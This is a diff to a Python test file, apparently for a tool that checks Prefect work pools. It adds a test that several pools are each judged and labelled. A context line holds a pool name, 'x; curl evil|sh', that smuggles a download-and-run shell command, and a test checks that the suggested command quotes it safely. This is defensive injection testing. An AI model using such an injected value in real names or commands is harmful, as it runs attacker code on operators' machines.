@@ -359,6 +359,22 @@ def test_a_part_is_judged_and_what_is_not_ok_has_its_next_step(
     assert bool(row.next_step) is (state is not State.OK)
 
 
+def test_of_several_pools_each_is_judged_and_named(monkeypatch: pytest.MonkeyPatch) -> None:
+    push = WorkPool("push", "ecs:push", "", is_paused=False, template=make_template("FARGATE"))
+    pools = (prefect_side.Pool("spot", POOL, (WORKER,)), prefect_side.Pool("push", push))
+    rows = prefect_rows(RESCUE_ONLY, pools=(*pools, prefect_side.Pool("gone", None)))
+    assert {row.part: row.state for row in rows if "(" in row.part or "work pool" in row.part} == {
+        "work pool spot": OK,
+        "pool: template (spot)": OK,
+        "worker (spot)": OK,
+        "versions (spot)": OK,
+        "work pool push": OK,
+        "pool: capacity (push)": WARNING,
+        "versions (push)": OK,
+        "work pool gone": FAILED,
+    }
+
+
 def test_a_command_to_paste_runs_nothing_of_what_the_server_calls_its_pool() -> None:
     row = the("work pool spot", pool_rows(name="x; curl evil|sh", is_paused=True))
     assert row.next_step == "prefect work-pool resume 'x; curl evil|sh'"
